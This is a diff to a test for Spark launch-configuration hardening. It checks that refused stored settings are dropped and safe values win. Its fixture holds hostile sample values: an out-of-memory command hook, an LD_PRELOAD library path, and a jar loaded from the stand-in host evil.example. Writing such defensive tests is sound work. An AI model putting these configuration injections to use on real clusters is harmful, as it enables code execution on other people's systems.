@@ -17,6 +17,7 @@ from tests.conftest import file_pair
 
 STORED = {  # as a pool registered before the policy may hold
     "spark.sql.runSQLOnFiles": "true",
+    "spark.sql.variable.substitute": "true",
     "spark.driver.extraJavaOptions": "-XX:OnOutOfMemoryError=touch /tmp/pwned-oom",
     "spark.executorEnv.LD_PRELOAD": "/tmp/pwned.so",
     "spark.jars": "http://evil.example/pwned.jar",
@@ -57,6 +58,7 @@ def test_a_stored_refused_conf_is_dropped_at_launch_and_safety_settings_win(
     )
     joined = "\n".join(argv)
     assert "spark.sql.runSQLOnFiles=false" in argv and "spark.sql.runSQLOnFiles=true" not in joined
+    assert "spark.sql.variable.substitute=false" in argv and "spark.sql.variable.substitute=true" not in joined
     assert "pwned" not in joined and "spark.executor.memory=2g" in argv
     assert "spark.jars=/usr/share/java/x.jar" in argv
     assert spark_conf({"spark.sql.session.timeZone": "Asia/Tokyo"})["spark.sql.session.timeZone"] == "UTC"
